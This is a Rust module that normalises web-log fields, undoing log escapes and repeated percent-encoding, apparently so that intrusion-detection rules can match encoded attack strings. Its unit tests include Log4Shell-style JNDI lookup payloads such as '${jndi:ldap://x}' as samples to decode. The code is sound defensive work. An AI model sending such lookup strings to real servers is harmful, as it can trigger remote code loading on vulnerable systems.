//! Normalised companions of web fields: what the attacker actually sent, with the layers of
//! encoding taken off, so that one rule string matches `%24{jndi`, `%2524{jndi` and `\x24{jndi`.
//!
//! `cs-uri-decoded`, `cs-user-agent-decoded` and `cs-referer-decoded` are built by [`decode`]:
//! 1. Apache's log escapes are undone first (`\xHH` -> the byte, `\"` -> `"`, `\\` -> `\`),
//!    because they belong to the log, not to the request;
//! 2. `%HH` percent-decoding is repeated until the text no longer changes, at most three rounds,
//!    so double encoding (`%2524` -> `%24` -> `$`) is undone but an endless chain is not followed;
//! 3. for URIs only, `+` is read as a space in the query part (after the first `?`), as form
//!    encoding means; a `+` in the path stays a `+`;
//! 4. bytes that are not UTF-8 are replaced (U+FFFD) rather than refused.
//!
//! An original value of `-` (the logs' "empty") gives no companion text: the companion is
//! `null` like its original.

/// How many rounds of percent-decoding at most.
pub(crate) const MAX_ROUNDS: usize = 3;

/// What kind of field is decoded: URIs treat `+` in the query as a space.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(crate) enum Kind {
    Uri,
    Header,
}

/// Undoes Apache's `\xHH`, `\"` and `\\` escapes (and nginx's `\xHH`).
pub(crate) fn unescape_log(s: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while let Some(&b) = s.get(i) {
        if b == b'\\' {
            match s.get(i + 1) {
                Some(b'x') | Some(b'X') => {
                    if let (Some(h), Some(l)) = (
                        s.get(i + 2).and_then(|c| hex(*c)),
                        s.get(i + 3).and_then(|c| hex(*c)),
                    ) {
                        out.push(h << 4 | l);
                        i += 4;
                        continue;
                    }
                }
                Some(&c @ (b'"' | b'\\')) => {
                    out.push(c);
                    i += 2;
                    continue;
                }
                Some(b'n') => {
                    out.push(b'\n');
                    i += 2;
                    continue;
                }
                Some(b't') => {
                    out.push(b'\t');
                    i += 2;
                    continue;
                }
                _ => {}
            }
        }
        out.push(b);
        i += 1;
    }
    out
}

fn hex(c: u8) -> Option<u8> {
    match c {
        b'0'..=b'9' => Some(c - b'0'),
        b'a'..=b'f' => Some(c - b'a' + 10),
        b'A'..=b'F' => Some(c - b'A' + 10),
        _ => None,
    }
}

fn percent_once(s: &[u8], plus_from: Option<usize>) -> Vec<u8> {
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while let Some(&b) = s.get(i) {
        if b == b'%' {
            if let (Some(h), Some(l)) = (
                s.get(i + 1).and_then(|c| hex(*c)),
                s.get(i + 2).and_then(|c| hex(*c)),
            ) {
                out.push(h << 4 | l);
                i += 3;
                continue;
            }
        }
        if b == b'+' && plus_from.is_some_and(|p| i > p) {
            out.push(b' ');
        } else {
            out.push(b);
        }
        i += 1;
    }
    out
}

/// Whether `raw` holds a byte decoding may change (`%`, `\\` or `+`): one vectorised search,
/// where a byte loop was a tenth of the line gate's time.
pub(crate) fn may_be_encoded(raw: &[u8]) -> bool {
    memchr::memchr3(b'%', b'\\', b'+', raw).is_some()
}

/// The decoded companion of a raw field value (log escapes still in place).
pub(crate) fn decode(raw: &[u8], kind: Kind) -> String {
    // Most values carry no encoding at all.
    let plain = !may_be_encoded(raw);
    if plain {
        return String::from_utf8_lossy(raw).into_owned();
    }
    let mut cur = unescape_log(raw);
    for round in 0..MAX_ROUNDS {
        // `+` means space only in the query, and only as sent: decide on the first round.
        let plus_from = if kind == Kind::Uri && round == 0 {
            memchr::memchr(b'?', &cur)
        } else {
            None
        };
        let next = percent_once(&cur, plus_from);
        if next == cur {
            break;
        }
        cur = next;
    }
    String::from_utf8_lossy(&cur).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn double_encoding_and_plus() {
        assert_eq!(
            decode(b"/a+b?q=%2524%7Bjndi+x", Kind::Uri),
            "/a+b?q=${jndi x"
        );
        assert_eq!(decode(b"Mozilla+5.0", Kind::Header), "Mozilla+5.0");
        assert_eq!(decode(b"%252525252541", Kind::Uri), "%252541");
    }

    #[test]
    fn apache_escapes() {
        assert_eq!(
            decode(br#"a\"b\x1B[31m\\c"#, Kind::Header),
            "a\"b\u{1b}[31m\\c"
        );
        assert_eq!(
            decode(br"\x24{jndi:ldap://x}", Kind::Header),
            "${jndi:ldap://x}"
        );
        assert_eq!(decode(br"bad \xZZ and \", Kind::Header), r"bad \xZZ and \");
        assert_eq!(decode(b"%ff%fe", Kind::Uri), "\u{fffd}\u{fffd}");
    }
}
